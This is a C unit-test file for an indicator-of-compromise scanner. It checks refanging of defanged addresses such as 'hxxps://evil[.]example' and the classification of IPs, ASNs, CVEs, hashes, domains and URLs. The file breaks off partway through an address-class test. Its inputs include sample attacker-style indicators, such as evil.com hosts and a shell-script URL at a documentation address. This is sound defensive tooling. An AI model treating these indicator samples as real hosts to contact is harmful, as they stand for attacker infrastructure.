#include "config.h"

#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "test.h"

#include "buf.h"
#include "csvreport.h"
#include "ioc.h"
#include "iocpool.h"

struct found {
	struct buf all;	/* "type value class defanged\n" lines */
};

static int
collect(const struct ioc *ioc, void *arg)
{
	struct found *f = arg;

	buf_addf(&f->all, "%s %s %s%s\n", ioc_type_name(ioc->type), ioc->value,
	    ioc_class_name(ioc->class), ioc->defanged ? " defanged" : "");
	return 0;
}

/* Everything the scanner reports for text read as a part of a longer
 * input, at offset base, one line each. */
static char *
scan_part(const char *text, size_t base)
{
	struct ioc_scanner *sc = ioc_scanner_new();
	struct found f = { BUF_INIT };

	ioc_scan(sc, text, strlen(text), base, collect, &f);
	ioc_scanner_free(sc);
	return buf_detach(&f.all, NULL);
}

/* Everything the scanner reports for text, one line each. */
static char *
scan(const char *text)
{
	return scan_part(text, 0);
}

static void
expect(const char *text, const char *want)
{
	char *got = scan(text);

	assert_string_equal(got, want);
	free(got);
}

/* All 31 pairs of ninoseki/ioc-extractor's refang tests. */
static void
test_refang_corpus(void **state)
{
	char path[4096];
	json_t *cases, *c;
	size_t i;

	(void)state;
	snprintf(path, sizeof(path), "%s/corpus/ioc-extractor-ninoseki/"
	    "refang_cases.json", TEST_DATA);
	assert_non_null(cases = json_load_file(path, 0, NULL));
	assert_int_equal(json_array_size(json_object_get(cases, "cases")), 31);
	json_array_foreach(json_object_get(cases, "cases"), i, c) {
		const char *in = json_string_value(json_object_get(c, "input"));
		struct buf out = BUF_INIT;

		ioc_refang(in, strlen(in), &out);
		assert_string_equal(out.data,
		    json_string_value(json_object_get(c, "expected")));
		buf_release(&out);
	}
	json_decref(cases);
}

static void
test_refang_more(void **state)
{
	static const char *const pairs[][2] = {
		{ "hXXps://evil[.]example/a", "https://evil.example/a" },
		{ "evil(dot)example", "evil.example" },
		{ "evil dot example", "evil.example" },
		{ "fxp://files[.]example", "ftp://files.example" },
		/* a scheme or its first letter in brackets */
		{ "[h]ttp://a.example [h]xxps://b.example (http)://c.example",
		    "http://a.example https://b.example http://c.example" },
		{ "[HXXPS]://d.example [ftp]://e.example {fxp}:/f.example",
		    "https://d.example ftp://e.example ftp:/f.example" },
		{ "(h)ttp[:]//g.example [https][://]h.example [hxxp]://i.x",
		    "http://g.example https://h.example http://i.x" },
		{ "(http://a.example) [h]ello [http] x[http]://b (ftp)",
		    "(http://a.example) [h]ello [http] x[http]://b (ftp)" },
		{ "[h]tp://a [h]txp://b [h]ttq://c [httpx]://d [h]",
		    "[h]tp://a [h]txp://b [h]ttq://c [httpx]://d [h]" },
		{ "[f]ttp://a [h]aap://b (http)[x]://c (http::d",
		    "[f]ttp://a [h]aap://b (http)[x]://c (http::d" },
		{ "http://[evil.example]/x", "http://evil.example/x" },
		/* square brackets escaped as Markdown writes them (an
		 * indicator list through a converter; session 35) */
		{ "evil\\[.\\]com hxxps\\[://\\]a\\[.\\]b hxxp\\[:\\]//c "
		    "abuse\\[@\\]x\\[dot\\]org \\[1\\]",
		    "evil.com https://a.b http://c abuse@x.org \\[1\\]" },
		{ "http://[2001:db8::1]/x", "http://[2001:db8::1]/x" },
		/* a spaced dot in prose: after a word no name is made
		 * of, before a sentence or a short word and more */
		{ "the end . then, the dot com bubble, a dot in the logo, "
		    "use dot net", "the end.then, the dot com bubble, a dot "
		    "in the logo, use dot net" },
		{ "this . It was, the server . in the logs, evil . in, "
		    "x dot com, The Dot Org", "this . It was, the server . in "
		    "the logs, evil.in, x.com, The Dot Org" },
		{ "www dot evil dot com, evil.the dot com, theevil dot com, "
		    "EVIL . COM", "www.evil.com, evil.the.com, theevil.com, "
		    "EVIL.COM" },
		/* an address spelled out against harvesters: " AT " in
		 * capitals before a domain with " DOT " in capitals, not
		 * in prose's small letters nor in shouting */
		{ "abuse AT evil DOT com, john.doe AT mail DOT evil DOT co "
		    "DOT uk, SOC AT cert DOT org", "abuse@evil.com, "
		    "john.doe@mail.evil.co.uk, SOC@cert.org" },
		{ "look at evil dot com, LOOK AT EVIL DOT COM, abuse AT "
		    "evil.com, a@b AT evil DOT com, x AT DOT com",
		    "look at evil.com, LOOK AT EVIL.COM, abuse AT evil.com, "
		    "a@b AT evil.com, x AT DOT com" },
		{ "(.) alone", ". alone" },	/* a defang marker anywhere */
		{ "clickhxxp://a", "clickhttp://a" },	/* glued to a word */
		{ "ahxxp: b", "ahxxp: b" },	/* a word, not before // */
		/* a dot escaped as in a regular expression or Markdown,
		 * between name characters only */
		{ "evil\\.example 1\\.2\\.3\\.4", "evil.example 1.2.3.4" },
		{ "1\\. Item, C:\\x\\.ssh\\.", "1\\. Item, C:\\x.ssh\\." },
		{ "words, sixteen bytes at a time, then evil\\.example, end",
		    "words, sixteen bytes at a time, then evil.example, end" },
		/* a bracketed dot or at with a blank either side, between
		 * name characters only */
		{ "evil [.] example, abuse (at) evil [dot] example",
		    "evil.example, abuse@evil.example" },
		{ "1.2.3 [.] 4 a [.]b a [:] b [.] . x, [.] y ab[.] cd",
		    "1.2.3.4 a .b a : b . . x, . y ab. cd" },
		/* a slash escaped as JSON writes it (PHP's json_encode),
		 * after a name's character, ':' or '/' only */
		{ "{\"u\":\"http:\\/\\/evil.example\\/a\\/b.php\"}",
		    "{\"u\":\"http://evil.example/a/b.php\"}" },
		{ "a \\/ b, \\/x", "a \\/ b, \\/x" },
		/* underscores and a bracketed "tt" or "xx" for the
		 * scheme's */
		{ "h__p://a H__PS://b h[tt]p://c h(tt)ps://d h{tt}p://e "
		    "h[xx]p://f h(XX)ps://g",
		    "http://a https://b http://c https://d http://e "
		    "http://f https://g" },
		{ "h__px h_tp: h[tt]x: h[t]p:// h[tt]p h[tt-p:// h[tx]p:// "
		    "h[xt]p://",
		    "h__px h_tp: h[tt]x: h[t]p:// h[tt]p h[tt-p:// h[tx]p:// "
		    "h[xt]p://" },
		/* the writer's "http or https", as https */
		{ "http[s]://a HTTP(S)://b hxxp[s]://c hxxp(s)[://]d "
		    "http[s][:]//e", "https://a HTTPs://b https://c "
		    "https://d https://e" },
		{ "file[s]: x; http[s] y; (s)http: [s]:// http[x]:// "
		    "http[sx://", "file[s]: x; http[s] y; (s)http: [s]:// "
		    "http[x]:// http[sx://" },
		{ "sixteen bytes of text, then http:\\/\\/evil.example",
		    "sixteen bytes of text, then http://evil.example" },
		/* the slashes bracketed apart from the colon */
		{ "hxxp:[//]evil.example/a hxxps:(//)b.example x[//]y",
		    "http://evil.example/a https://b.example x//y" },
		/* square and curly brackets that do not pair, blanks in
		 * brackets, angle brackets, a comma in brackets: between
		 * name characters */
		{ "a].[b c[.[d e}.}f g{.{h i}.{j k].]l",
		    "a.b c.d e.f g.h i.j k.l" },
		{ "a[ . ]b c( dot )d e{  .  }f g<.>h i[,]j k(,)l",
		    "a.b c.d e.f g.h i.j k.l" },
		/* and a blank either side of them, both sides only */
		{ "a [ . ] b c ( dot ) d e { . } f, g [ . ]hx i( . ) j "
		    "k ] . [ l m [ , ] n o [ . [ p, [ . ] q", "a.b c.d e.f, "
		    "g [ . ]hx i( . ) j k ] . [ l m [ , ] n o [ . [ p, [ . ] q" },
		/* JSON's arrays, code's parentheses, a blank outside, three
		 * blanks inside, a comma with blanks: as written */
		{ "[10],[20],[30],[40] f(x).(y) a(.(b c].)d a[,] b c<.> d "
		    "e].f x[   .]y x[ ,]y x[,,]y x<.y",
		    "[10],[20],[30],[40] f(x).(y) a(.(b c].)d a[,] b c<.> d "
		    "e].f x[   .]y x[ ,]y x[,,]y x<.y" },
		{ "a <.>b a<.xb x<.yz a] .[b a[.   ]b a[,[b a[, ]b a(.[b "
		    "a[.(b a].(b a]. [b", "a <.>b a<.xb x<.yz a] .[b a[.   ]b "
		    "a[,[b a[, ]b a(.[b a[.(b a].(b a]. [b" },
		/* brackets that do not pair, between digits: a note's
		 * numbers, "[1].[2].[3].[4]" (no address); a digit and a
		 * letter, or a letter beyond ASCII: a name */
		{ "see [1].[2].[3].[4] 1[.[2 1}.}2 1].[b a].[2 \xc3\xa9].[1 "
		    "1].[\xc3\xa9", "see [1].[2].[3].[4] 1[.[2 1}.}2 1.b a.2 "
		    "\xc3\xa9.1 1.\xc3\xa9" },
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++) {
		struct buf out = BUF_INIT;

		ioc_refang(pairs[i][0], strlen(pairs[i][0]), &out);
		assert_string_equal(out.data, pairs[i][1]);
		buf_release(&out);
	}
}

static void
test_types(void **state)
{
	struct ioc_scanner *sc;
	struct found f = { BUF_INIT };

	(void)state;
	expect("host 198.51.100.7 and 8.8.8.8", "ipv4 198.51.100.7 documentation\n"
	    "ipv4 8.8.8.8 public\n");
	expect("net 10.0.0.0/8 fe80::1/64",
	    "cidr 10.0.0.0/8 private\ncidr fe80::1/64 link-local\n");
	/* addresses padded with zeros, as some firewalls export them;
	 * a sum with dots between its thousands is none (no_invention) */
	expect("192.168.000.001 010.000.000.000 8.8.008.000 "
	    "8.100.150.001 2.100.000.000/8",
	    "ipv4 192.168.0.1 private\nipv4 10.0.0.0 private\n"
	    "ipv4 8.8.8.0 public\nipv4 8.100.150.1 public\n"
	    "cidr 2.100.0.0/8 public\n");
	/* addresses listed so are addresses; "in" and "to" alone say no
	 * version; a version list goes on as long as it is */
	expect("hosts 192.0.2.1 and 192.0.2.2, 192.0.2.3 or 192.0.2.4 to "
	    "192.0.2.5 thru 192.0.2.6; hosts in 192.0.2.7 to 192.0.2.8; "
	    "logged in 192.0.2.9; sent to 192.0.2.10, join 192.0.2.11 "
	    "fixed.in 192.0.2.12; version 1.0.0.1 had 192.0.2.13; seen "
	    "before 192.0.2.14",
	    "ipv4 192.0.2.1 documentation\nipv4 192.0.2.2 documentation\n"
	    "ipv4 192.0.2.3 documentation\nipv4 192.0.2.4 documentation\n"
	    "ipv4 192.0.2.5 documentation\nipv4 192.0.2.6 documentation\n"
	    "ipv4 192.0.2.7 documentation\nipv4 192.0.2.8 documentation\n"
	    "ipv4 192.0.2.9 documentation\n"
	    "ipv4 192.0.2.10 documentation\n"
	    "ipv4 192.0.2.11 documentation\n"
	    "ipv4 192.0.2.12 documentation\n"
	    "ipv4 192.0.2.13 documentation\n"
	    "ipv4 192.0.2.14 documentation\n");
	/* what a scanner kept of a text's versions is not the next's */
	sc = ioc_scanner_new();
	ioc_scan(sc, "ver 1.0.0.1", 11, 0, collect, &f);
	ioc_scan(sc, "IPs 9.9.9, 198.51.100.2", 23, 0, collect, &f);
	ioc_scanner_free(sc);
	assert_string_equal(f.all.data, "ipv4 198.51.100.2 documentation\n");
	buf_release(&f.all);
	expect("versions 1.0.0.1, 1.0.0.2, 1.0.0.3, 1.0.0.4, 1.0.0.5, "
	    "1.0.0.6, 1.0.0.7, 1.0.0.8, 1.0.0.9, 1.0.0.10, 1.0.0.11, "
	    "1.0.0.12, 1.0.0.13, 1.0.0.14, 1.0.0.15, 1.0.0.16, 1.0.0.17 "
	    "and 1.0.0.18; hosts 1.0.0.19", "ipv4 1.0.0.19 public\n");
	/* a certificate's fingerprint is one (a C2 server's), and so is a
	 * hash after a fingerprint of no key's */
	expect("SSL certificate SHA1 fingerprint "
	    "5A3F0C2B9E4D81F6A2C5B0E9D8F7A6B5C4D3E2F1, the file's "
	    "fingerprint: 4a3f0c2b9e4d81f6a2c5b0e9d8f7a6b5c4d3e2f1; "
	    "Key: 3a3f0c2b9e4d81f6a2c5b0e9d8f7a6b5c4d3e2f1",
	    "sha1 5a3f0c2b9e4d81f6a2c5b0e9d8f7a6b5c4d3e2f1 public\n"
	    "sha1 4a3f0c2b9e4d81f6a2c5b0e9d8f7a6b5c4d3e2f1 public\n"
	    "sha1 3a3f0c2b9e4d81f6a2c5b0e9d8f7a6b5c4d3e2f1 public\n");
	/* padded so, a network's address ending in ".000" has a sum's
	 * shape, and is given up: a host's seldom ends so */
	expect("198.051.100.000", "");
	/* padded to three digits, or a zero inside: an address; "sections"
	 * where no document is */
	expect("008.008.008.008 192.168.001.010 0.1.2.3 10.0.0.100 "
	    "sections: 198.51.100.9",
	    "ipv4 8.8.8.8 public\n"
	    "ipv4 192.168.1.10 private\nipv4 0.1.2.3 reserved\n"
	    "ipv4 10.0.0.100 private\n"
	    "ipv4 198.51.100.9 documentation\n");
	expect("2001:0DB8:0000:0000:0000:0000:0000:0001",
	    "ipv6 2001:db8::1 documentation\n");
	expect("::ffff:192.0.2.1", "ipv6 ::ffff:192.0.2.1 documentation\n");
	/* NAT64's well-known prefix: the IPv4 host's class (written in hex:
	 * RFC 5952 keeps the dotted form for mapped addresses); its
	 * local-use prefix, the newer documentation prefix and
	 * benchmarking's, each as IANA's registry says, and the addresses
	 * just past each */
	/* 6to4's, 2002::/16: the IPv4 host's class (Gmail's Received
	 * fields' 2002:a05:..., 10.5.x.x, private) */
	expect("by 2002:a05:6520:2c4a:b0:26f:4e2a:1b3c with SMTP id "
	    "2002:c000:204::1 2002:808:808::1 2002::1 2003::1",
	    "ipv6 2002:a05:6520:2c4a:b0:26f:4e2a:1b3c private\n"
	    "ipv6 2002:c000:204::1 documentation\n"
	    "ipv6 2002:808:808::1 public\nipv6 2002::1 reserved\n"
	    "ipv6 2003::1 public\n");
	expect("64:ff9b::203.0.113.5 64:ff9b::8.8.8.8 64:ff9b::10.0.0.1 "
	    "64:ff9b:1::1 64:ff9b:2::1 3fff::1 3fff:fff:ffff::1 "
	    "3fff:1000::1 2001:2:0:ffff::5 2001:2:1::5 2001:db9::1 "
	    "64:ff9b:101::1 2001::1",
	    "ipv6 64:ff9b::cb00:7105 documentation\n"
	    "ipv6 64:ff9b::808:808 public\n"
	    "ipv6 64:ff9b::a00:1 private\n"
	    "ipv6 64:ff9b:1::1 private\n"
	    "ipv6 64:ff9b:2::1 reserved\n"
	    "ipv6 3fff::1 documentation\n"
	    "ipv6 3fff:fff:ffff::1 documentation\n"
	    "ipv6 3fff:1000::1 public\n"
	    "ipv6 2001:2:0:ffff::5 reserved\n"
	    "ipv6 2001:2:1::5 public\n"
	    "ipv6 2001:db9::1 public\n"
	    "ipv6 64:ff9b:101::1 reserved\n"
	    "ipv6 2001::1 reserved\n");
	/* Teredo's, 2001::/32: its client's class, the last four bytes
	 * inverted (RFC 4380's example: 192.0.2.45), as 2001::1's is
	 * 255.255.255.254's */
	expect("2001:0:4136:e378:8000:63bf:3fff:fdd2 "
	    "2001:0:4136:e378:8000:63bf:b4e3:9a7d 2001:1::3fff:fdd2",
	    "ipv6 2001:0:4136:e378:8000:63bf:3fff:fdd2 documentation\n"
	    "ipv6 2001:0:4136:e378:8000:63bf:b4e3:9a7d public\n"
	    "ipv6 2001:1::3fff:fdd2 public\n");
	/* AS numbers as IANA's special-purpose registry says: RFC 5398's
	 * for documentation, RFC 6996's private ones, those reserved (0
	 * is no AS number at all); the numbers just past each range */
	expect("AS64495 AS64496 AS64511 AS64512 AS65534 AS65535 AS65536 "
	    "AS65551 AS65552 AS131071 AS131072 AS23456 AS23457 "
	    "AS4199999999 AS4200000000 AS4294967294 AS4294967295 AS0",
	    "asn AS64495 public\nasn AS64496 documentation\n"
	    "asn AS64511 documentation\nasn AS64512 private\n"
	    "asn AS65534 private\nasn AS65535 reserved\n"
	    "asn AS65536 documentation\nasn AS65551 documentation\n"
	    "asn AS65552 reserved\nasn AS131071 reserved\n"
	    "asn AS131072 public\nasn AS23456 reserved\n"
	    "asn AS23457 public\nasn AS4199999999 public\n"
	    "asn AS4200000000 private\nasn AS4294967294 private\n"
	    "asn AS4294967295 reserved\n");
	/* names as addresses: RFC 2606's example.com, .net and .org and
	 * what is under them are for documentation (a URL's and an
	 * address's too), RFC 8375's home.arpa is a home's, private; a
	 * name that only ends so is public */
	expect("example.com www.example.net a.b.example.org nas.home.arpa "
	    "home.arpa myexample.com example.com.evil.net xhome.arpa "
	    "https://Login.Example.ORG/x abuse@example.net "
	    "abuse@example.net.evil.org http://evil.net/example.com",
	    "domain example.com documentation\n"
	    "domain www.example.net documentation\n"
	    "domain a.b.example.org documentation\n"
	    "domain nas.home.arpa private\n"
	    "domain home.arpa private\n"
	    "domain myexample.com public\n"
	    "domain example.com.evil.net public\n"
	    "domain xhome.arpa public\n"
	    "url https://login.example.org/x documentation\n"
	    "domain login.example.org documentation\n"
	    "email abuse@example.net documentation\n"
	    "email abuse@example.net.evil.org public\n"
	    "url http://evil.net/example.com public\n"
	    "domain evil.net public\n");
	/* a host and its path without a scheme: the URL the host's */
	expect("www.example.com/login.php www.evil.com/login.php",
	    "url http://www.example.com/login.php documentation\n"
	    "domain www.example.com documentation\n"
	    "url http://www.evil.com/login.php public\n"
	    "domain www.evil.com public\n");
	expect("hxxp://evil[.]example[.]com/login?a=1#x",
	    "url http://evil.example.com/login?a=1#x documentation defanged\n"
	    "domain evil.example.com documentation defanged\n");
	/* a scheme defanged by its first letter's going, in capitals
	 * too, after a mark; not inside a word, nor another scheme */
	expect("ttps://evil-login.xyz/a TTP://evil-login.xyz/b "
	    "see:ttps://evil-login.xyz/c (ttp://198.51.100.7/x.sh) "
	    "attps://d.evil-login.xyz/e ttpx://f.evil-login.xyz/ <a href=3D\"h=\n"
	    "ttp://g.evil-login.xyz/x",
	    "url https://evil-login.xyz/a public defanged\n"
	    "domain evil-login.xyz public\n"
	    "url http://evil-login.xyz/b public defanged\n"
	    "domain evil-login.xyz public\n"
	    "url https://evil-login.xyz/c public defanged\n"
	    "domain evil-login.xyz public\n"
	    "url http://198.51.100.7/x.sh documentation defanged\n"
	    "ipv4 198.51.100.7 documentation\n"
	    "domain d.evil-login.xyz public\n"
	    "domain f.evil-login.xyz public\n"
	    "domain g.evil-login.xyz public\n");
	expect("http://bank.example.com@evil.example.org/",
	    "url http://bank.example.com@evil.example.org/ documentation\n"
	    "domain evil.example.org documentation\n");
	/* A URL's host as a browser reads it (the WHATWG URL standard):
	 * numbers in decimal, hex or octal, the last filling the bytes
	 * left; what a browser refuses gives nothing; the root's dot
	 * after a name is dropped. */
	expect("http://2130706433/x http://0x7f.1/ http://010.1.2.3/ "
	    "http://198.51.100.7./a",
	    "url http://127.0.0.1/x loopback\nipv4 127.0.0.1 loopback\n"
	    "url http://127.0.0.1/ loopback\nipv4 127.0.0.1 loopback\n"
	    "url http://8.1.2.3/ public\nipv4 8.1.2.3 public\n"
	    "url http://198.51.100.7/a documentation\n"
	    "ipv4 198.51.100.7 documentation\n");
	expect("http://4294967296/ http://0x100000000/ http://256.1.1.1/ "
	    "http://1.256.1/ http://1.2.3.4.5/ http://09.1.1.1/ "
	    "http://evil.0x1/ http://evil.123/ http://1.16777216/ "
	    "http://1..2/", "");
	expect("http://1.16777215/",
	    "url http://1.255.255.255/ public\nipv4 1.255.255.255 public\n");
	expect("https://Evil.example.com.:8443/x http://1e100.net/",
	    "url https://evil.example.com:8443/x documentation\n"
	    "domain evil.example.com documentation\n"
	    "url http://1e100.net/ public\ndomain 1e100.net public\n");
	/* the CVE ids an advisory's link names, whole words only */
	expect("https://nvd.nist.gov/vuln/detail/CVE-2024-3094 "
	    "https://x.example.com/?id=cve-2021-44228#CVE-2022-22965 "
	    "http://x.example.com/xCVE-2024-1235/CVE-2024-1236x/CVE-2024-12",
	    "url https://nvd.nist.gov/vuln/detail/CVE-2024-3094 public\n"
	    "domain nvd.nist.gov public\ncve CVE-2024-3094 public\n"
	    "url https://x.example.com/?id=cve-2021-44228#CVE-2022-22965 "
	    "documentation\ndomain x.example.com documentation\n"
	    "cve CVE-2021-44228 public\ncve CVE-2022-22965 public\n"
	    "url http://x.example.com/xCVE-2024-1235/CVE-2024-1236x/"
	    "CVE-2024-12 documentation\n"
	    "domain x.example.com documentation\n");
	/* the digest a sample's page names: a step of its own after
	 * "file", "sample", "hash" or a digest's name, or such a key's
	 * value (without a scheme, every value is a token); a digest
	 * elsewhere is the page's own: a victim's id, an asset's version.
	 * Before, none (session 34). */
	expect("https://www.virustotal.com/gui/file/3F79BB7B435B05321651DAEF"
	    "D374CDC681DC06FAA65E374E38337B88CA046DEA/detection "
	    "hxxps://bazaar.abuse[.]ch/sample/d41d8cd98f00b204e9800998ecf8427e "
	    "https://x.example.com/a.php?hash=da39a3ee5e6b4b0d3255bfef95601890"
	    "afd80709&b=1 x.example.com/dfi/sha256/d41d8cd98f00b204e9800998ecf84"
	    "27f/ x.example.com/s.php?md5=d41d8cd98f00b204e9800998ecf84273 "
	    "https://evil.com/track/d41d8cd98f00b204e9800998ecf84270/x "
	    "https://evil.com/app.d41d8cd98f00b204e9800998ecf84271.js "
	    "https://evil.com/a?id=d41d8cd98f00b204e9800998ecf84272 "
	    "https://evil.com/file/d41d8cd98f00b204e9800998ecf8427/ "
	    "https://evil.com/file/d41d8cd98f00b204e9800998ecf842700/ "
	    "https://x.example.com/md5/d41d8cd98f00b204e9800998ecf84274 "
	    "https://x.example.com/sample/d41d8cd98f00b204e9800998ecf84275#x",
	    "url https://www.virustotal.com/gui/file/3F79BB7B435B05321651DAEF"
	    "D374CDC681DC06FAA65E374E38337B88CA046DEA/detection public\n"
	    "domain www.virustotal.com public\n"
	    "sha256 3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca0"
	    "46dea public\n"
	    "url https://bazaar.abuse.ch/sample/d41d8cd98f00b204e9800998ecf8427e"
	    " public defanged\n"
	    "domain bazaar.abuse.ch public defanged\n"
	    "md5 d41d8cd98f00b204e9800998ecf8427e public\n"
	    "url https://x.example.com/a.php?hash=da39a3ee5e6b4b0d3255bfef9560"
	    "1890afd80709&b=1 documentation\n"
	    "domain x.example.com documentation\n"
	    "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709 public\n"
	    "url http://x.example.com/dfi/sha256/d41d8cd98f00b204e9800998ecf84"
	    "27f/ documentation\n"
	    "domain x.example.com documentation\n"
	    "md5 d41d8cd98f00b204e9800998ecf8427f public\n"
	    "url http://x.example.com/s.php?md5=d41d8cd98f00b204e9800998ecf8427"
	    "3 documentation\n"
	    "domain x.example.com documentation\n"
	    "md5 d41d8cd98f00b204e9800998ecf84273 public\n"
	    "url https://evil.com/track/d41d8cd98f00b204e9800998ecf84270/x "
	    "public\n"
	    "domain evil.com public\n"
	    "url https://evil.com/app.d41d8cd98f00b204e9800998ecf84271.js "
	    "public\n"
	    "domain evil.com public\n"
	    "url https://evil.com/a?id=d41d8cd98f00b204e9800998ecf84272 "
	    "public\n"
	    "domain evil.com public\n"
	    "url https://evil.com/file/d41d8cd98f00b204e9800998ecf8427/ "
	    "public\n"
	    "domain evil.com public\n"
	    "url https://evil.com/file/d41d8cd98f00b204e9800998ecf842700/ "
	    "public\n"
	    "domain evil.com public\n"
	    "url https://x.example.com/md5/d41d8cd98f00b204e9800998ecf84274 "
	    "documentation\n"
	    "domain x.example.com documentation\n"
	    "md5 d41d8cd98f00b204e9800998ecf84274 public\n"
	    "url https://x.example.com/sample/d41d8cd98f00b204e9800998ecf84275"
	    "#x documentation\n"
	    "domain x.example.com documentation\n"
	    "md5 d41d8cd98f00b204e9800998ecf84275 public\n");
	/* a numbered page's "files", a pull request's: its commit is no
	 * sample's (session 35); a version's step before it is no number */
	expect("https://github.com/o/r/pull/12/files/0123456789abcdef0123456"
	    "789abcdef01234567 github.com/o/r/pull/3/files/0123456789abcdef0"
	    "123456789abcdef01234568 https://x.example.com/v2/files/d41d8cd98"
	    "f00b204e9800998ecf84276",
	    "url https://github.com/o/r/pull/12/files/0123456789abcdef0123456"
	    "789abcdef01234567 public\n"
	    "domain github.com public\n"
	    "url http://github.com/o/r/pull/3/files/0123456789abcdef0123456789"
	    "abcdef01234568 public\n"
	    "domain github.com public\n"
	    "url https://x.example.com/v2/files/d41d8cd98f00b204e9800998ecf84"
	    "276 documentation\n"
	    "domain x.example.com documentation\n"
	    "md5 d41d8cd98f00b204e9800998ecf84276 public\n");
	expect("(see https://www.example.com/a_(b))",
	    "url https://www.example.com/a_(b) documentation\n"
	    "domain www.example.com documentation\n");
	/* a Markdown link whose text is its URL: two URLs, no "](" in
	 * one (session 35: "http://evil.com/a](http://evil.com/a)") */
	expect("[hxxp://evil[.]com/a](hxxp://evil[.]com/a) "
	    "[https://evil.net/](https://evil.org/b)",
	    "url http://evil.com/a public defanged\n"
	    "domain evil.com public defanged\n"
	    "url http://evil.com/a public defanged\n"
	    "domain evil.com public defanged\n"
	    "url https://evil.net/ public\n"
	    "domain evil.net public\n"
	    "url https://evil.org/b public\n"
	    "domain evil.org public\n");
	expect("Abuse[@]Example.ORG",
	    "email Abuse@example.org documentation defanged\n");
	expect("CVE-2024-3094 cve-2021-44228",
	    "cve CVE-2024-3094 public\ncve CVE-2021-44228 public\n");
	/* the dashes a word processor writes (U+2010, U+2011, U+2013,
	 * U+2014, U+2212) in an id copied from a document; not too few or
	 * too many digits, nor no dash */
	expect("CVE\u20112024\u20115678 CVE\u20132023\u201344487 "
	    "CVE\u20142021\u221244228 CVE\u20102014\u20100160 "
	    "CVE-2024-12345678 CVE\u20112024-1 CVE2024-1234 "
	    "CVE\u20302024-1234",
	    "cve CVE-2024-5678 public\ncve CVE-2023-44487 public\n"
	    "cve CVE-2021-44228 public\ncve CVE-2014-0160 public\n");
	/* a blank after "CVE", as a reporter types it, after words
	 * (which scan steps over) or not; '_' as a rule's or a file's name
	 * writes it; not two blanks, a blank for the second dash, a
	 * letter glued to either end, or too many digits */
	expect("Patch CVE 2024-3094 now, cve 2023\u20134966. YARA rule "
	    "CVE_2021_44228 and the CVE-2014_0160 check; CVE  2024-1 "
	    "CVE 2024 3095 xCVE 2024-3096 CVE 2024-3097x CVE 2024-12345678 "
	    "CVE 20245-3098 CVE 2024-309",
	    "cve CVE-2024-3094 public\ncve CVE-2023-4966 public\n"
	    "cve CVE-2021-44228 public\ncve CVE-2014-0160 public\n");
	expect("CVE 2024-3094", "cve CVE-2024-3094 public\n");
	expect("CVE 2024-30", "");
	/* a sequence of five digits or more has no zero first (the CVE ID
	 * syntax); four may */
	expect("CVE-2024-01234 CVE-2024-00001 reference:cve,2024-01235; "
	    "CVE_2024_01236 CVE-2014-0160 CVE-2024-0123 CVE-2024-10123",
	    "cve CVE-2014-0160 public\ncve CVE-2024-0123 public\n"
	    "cve CVE-2024-10123 public\n");
	expect("AS4134 ASN 4808 ASN15169",
	    "asn AS4134 public\nasn AS4808 public\nasn AS15169 public\n");
	/* "AS 4134" with a space (three digits at least), but not in a
	 * sentence in capitals; "as" in lower case is a word */
	expect("from AS 4134 (CHINANET), AS 9808 CMNET",
	    "asn AS4134 public\nasn AS9808 public\n");
	expect("SUCH AS 200 HOSTS; rated as 4134 of 5000; AS 77; AS  777; "
	    "AS 7 9; HOSTS LIKE AS 300", "");
	/* a country's code before it is no shouting */
	expect("CN AS 4134, US AS 15169, geo DE AS 3320",
	    "asn AS4134 public\nasn AS15169 public\nasn AS3320 public\n");
	expect("D41D8CD98F00B204E9800998ECF8427E",
	    "md5 d41d8cd98f00b204e9800998ecf8427e public\n");
	/* a certificate's digest as openssl prints it (a C2 server's is
	 * an indicator), of each size */
	expect("SHA1 Fingerprint=DA:39:A3:EE:5E:6B:4B:0D:32:55:BF:EF:95:60:"
	    "18:90:AF:D8:07:09\nMD5: d4:1d:8c:d9:8f:00:b2:04:e9:80:09:98:"
	    "ec:f8:42:7e, SHA256 Fingerprint=E3:B0:C4:42:98:FC:1C:14:9A:FB:"
	    "F4:C8:99:6F:B9:24:27:AE:41:E4:64:9B:93:4C:A4:95:99:1B:78:52:"
	    "B8:55",
	    "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709 public\n"
	    "md5 d41d8cd98f00b204e9800998ecf8427e public\n"
	    "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca49599"
	    "1b7852b855 public\n");
	/* no digest: a MAC address, a serial number, pairs of no digest's
	 * count, no digit, a pair of one or three digits, another mark */
	expect("52:54:00:12:34:56 04:00:00:00:00:01:15:4b:5a:c3:94 "
	    "AB:CD:EF:AB:CD:EF:AB:CD:EF:AB:CD:EF:AB:CD:EF:AB "
	    "d4:1d:8c:d9:8f:00:b2:04:e9:80:09:98:ec:f8:42:7e:00 "
	    "d4:1d:8c:d9:8f:00:b2:04:e9:80:09:98:ec:f8:42:7e:0 "
	    "d4:1d:8c:d9:8f:00:b2:04:e9:80:09:98:ec:f8:42:7 "
	    "d4:1d:8c:d9:8f:00:b2:04:e9:80:09:98:ec:f8:4:27e "
	    "d4-1d-8c-d9-8f-00-b2-04-e9-80-09-98-ec-f8-42-7e "
	    "d4:1d:8c:d9:8f:00:b2:04:e9:80:09:98:ec:f8:42:7g", "");
}

/* Every class of item 4 at its ranges' edges: the first and last
 * address of each special range and the addresses just outside it
 * (IANA's special-purpose registries; RFC 6890). */
static void
test_address_classes(void **state)
{
	(void)state;
	expect("hosts 9.255.255.255 10.0.0.1 10.255.255.255 11.0.0.0 "
	    "172.15.255.255 172.16.0.1 172.31.255.255 172.32.0.1 "
	    "192.167.255.255 192.168.0.1 192.169.0.1 100.63.255.255 "
	    "100.64.0.1 100.127.255.255 100.128.0.1 126.255.255.255 "
	    "127.0.0.1 169.253.255.255 169.254.1.1 169.255.0.1 192.0.1.255 "
	    "192.0.2.1 192.0.3.1 198.51.99.255 198.51.100.1 203.0.113.9 "
	    "203.0.114.1 223.255.255.255 224.0.0.1 239.255.255.250 "
	    "240.0.0.1 255.255.255.255 0.0.0.0 192.0.0.8 198.17.255.255 "
	    "198.18.0.1 198.19.255.255 198.20.0.1 ff02::1 fc00::1 fdff::1 "
	    "fe00::1 fe80::1 febf::1 fec0::1 ::1 1fff::1 2000::1 4000::1",
	    "ipv4 9.255.255.255 public\nipv4 10.0.0.1 private\n"
